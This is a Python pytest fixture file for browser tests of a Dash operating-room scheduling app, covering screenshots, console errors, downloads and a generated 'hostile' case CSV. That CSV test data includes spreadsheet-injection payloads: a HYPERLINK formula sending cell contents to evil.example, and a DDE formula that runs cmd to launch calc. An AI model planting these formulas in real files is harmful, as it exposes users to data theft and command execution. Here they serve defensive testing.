"""Browser-test fixtures: start the session's app (see tests/conftest.py) and save screenshots."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from dash.testing.wait import until

from optior.services.importing import import_cases
from tests.conftest import wait_for_background_retrains
from tests.ports import free_port
from tests.test_database_unavailable import serving

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts" / "screenshots"


@pytest.fixture
def open_app(dash_duo, optior_app):
    """Start the app in a thread and return a function that opens a path and waits for the page."""
    dash_duo.start_server(optior_app, port=free_port())

    def visit(path: str, ready_selector: str) -> None:
        dash_duo.driver.get(dash_duo.server_url + path)
        dash_duo.wait_for_element(ready_selector, timeout=20)
        until(lambda: dash_duo.redux_state_rqs == [], timeout=20)  # every callback the page fired has answered

    yield visit
    # dash[testing] stops its server by raising SystemExit in the server's threads; a retrain watcher the page
    # started must have ended first, or it can receive that exception while waiting for its job's process.
    wait_for_background_retrains()


def save_screenshot(dash_duo, name: str, width: int = 1280, height: int = 1024) -> Path:
    """Save a whole-page screenshot at the given window width under test-artifacts/screenshots/, then go back to
    a width x height window."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path = ARTIFACTS / f"{name}.png"
    driver = dash_duo.driver
    page_height = driver.execute_script("return document.documentElement.scrollHeight")
    driver.set_window_size(width, max(height, min(int(page_height) + 40, 8000)))
    driver.save_screenshot(str(path))
    driver.set_window_size(width, height)
    return path


def console_errors(dash_duo) -> list[dict]:
    """Browser console entries at SEVERE level (errors), excluding none."""
    return [entry for entry in dash_duo.get_logs() or [] if entry.get("level") == "SEVERE"]


# Text a careless or hostile user can put into a case file: spreadsheet formulas and Plotly's pseudo-HTML.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
MARKUP = '<a href="https://evil.example">click me</a>'
HOSTILE_DAY = "2026-06-01"


def _hostile_case_file() -> bytes:
    """One case per hostile text on HOSTILE_DAY, in its own room; each ran 5 minutes short of its booking."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Encounter ID", "Date", "OR Suite", "Service", "CPT Code", "CPT Description", "Surgeon",
                     "Booked Time (min)", "OR Schedule", "Wheels In", "Start Time", "End Time", "Wheels Out"])
    for room, text in enumerate((*FORMULAS, MARKUP), start=1):
        day = f"{HOSTILE_DAY} "
        writer.writerow([f"H-{room}", HOSTILE_DAY, room, text, "52000", text, text, 60, day + "08:00",
                         day + "08:00", day + "08:10", day + "08:50", day + "08:55"])
    return out.getvalue().encode()


@pytest.fixture
def hostile_cases(optior_app, runtime):
    """The session app serving, for this test, a database whose only day holds the hostile cases."""
    report = import_cases(runtime, source=_hostile_case_file(), source_name="hostile.csv")
    assert report.inserted == len(FORMULAS) + 1, report.summary()
    with serving(optior_app, runtime):
        yield


def download_folder(dash_duo, tmp_path: Path) -> Path:
    """A folder the browser now saves downloads into, without asking."""
    folder = tmp_path / "downloads"
    folder.mkdir()
    dash_duo.driver.execute_cdp_cmd("Page.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder)})
    return folder


def downloaded(folder, name: str, timeout: float = 15) -> str:
    """The text of a file the browser finished downloading into folder."""
    deadline = time.monotonic() + timeout
    path = folder / name
    while time.monotonic() < deadline:
        if path.exists() and not list(folder.glob("*.crdownload")):
            return path.read_text(encoding="utf-8-sig")
        time.sleep(0.2)
    raise AssertionError(f"{name} was not downloaded; the folder holds {sorted(p.name for p in folder.iterdir())}")
